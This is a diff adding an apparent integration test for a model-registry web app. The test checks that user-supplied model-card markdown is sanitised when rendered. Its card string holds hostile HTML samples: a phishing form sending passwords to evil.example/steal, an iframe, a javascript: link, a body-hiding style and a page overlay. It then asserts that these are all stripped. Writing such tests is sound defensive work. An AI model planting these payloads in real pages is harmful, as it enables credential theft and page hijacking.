@@ -137,3 +137,34 @@ def test_api_docs_page_runs_under_its_policy(browser_page):
     assert not [m for m in messages if "Content Security Policy" in m], messages
     # the inline script ran: it either built Swagger UI or found its CDN bundle missing (offline)
     assert page.locator("#swagger-ui .swagger-ui").count() or any("SwaggerUIBundle" in m for m in messages), messages
+
+
+def test_model_card_renders_only_markdown(api, admin, browser_page, demo_dirs):
+    from tests.integration.test_models import dir_files, register, upload
+
+    dev = make_user(api, admin, "card-dev", "card-team")["headers"]
+    model = register(api, dev, "card-model", description=f"desc {PAYLOAD}")
+    r = upload(api, dev, model["id"], dir_files(demo_dirs[0]))
+    assert r.status_code == 201, r.text
+    parts = ["# Card title", "<style>body { display: none !important }</style>",
+             '<form action="https://evil.example/steal" data-testid="phish"><input name="password"><button>Sign in again</button></form>',
+             PAYLOAD, '<iframe src="https://evil.example"></iframe>', "[docs](javascript:window.__xss=1) [site](https://example.com)",
+             '<p style="position:fixed;inset:0;background:red" id="overlay">covered</p>']  # fmt: skip
+    card = "\n\n".join(parts)
+    assert api.put(f"/api/model/version/{r.json()['id']}/card", json={"card_markdown": card}, headers=dev).status_code == 200
+
+    page = browser_page
+    ui_login(page, "admin", ADMIN_PASSWORD)
+    page.goto(f"/models/{model['id']}")
+    rendered = page.get_by_test_id("model-card").locator(".markdown")
+    expect(rendered).to_contain_text("Card title")
+    expect(rendered).to_contain_text("covered")
+    for selector in ("style", "form", "input", "button", "iframe", "img[src]", "[onerror]", "[style]", "[id]"):
+        assert rendered.locator(selector).count() == 0, selector
+    expect(page.get_by_test_id("nav-home")).to_be_visible()  # the page was not hidden by the card's styles
+    site = rendered.get_by_role("link", name="site")
+    assert site.get_attribute("rel") == "noopener noreferrer" and site.get_attribute("target") == "_blank"
+    expect(rendered).to_contain_text("docs")
+    assert rendered.locator("a[href*='javascript' i]").count() == 0
+    expect(page.get_by_text(f"desc {PAYLOAD}").first).to_be_visible()
+    _assert_nothing_ran(page)
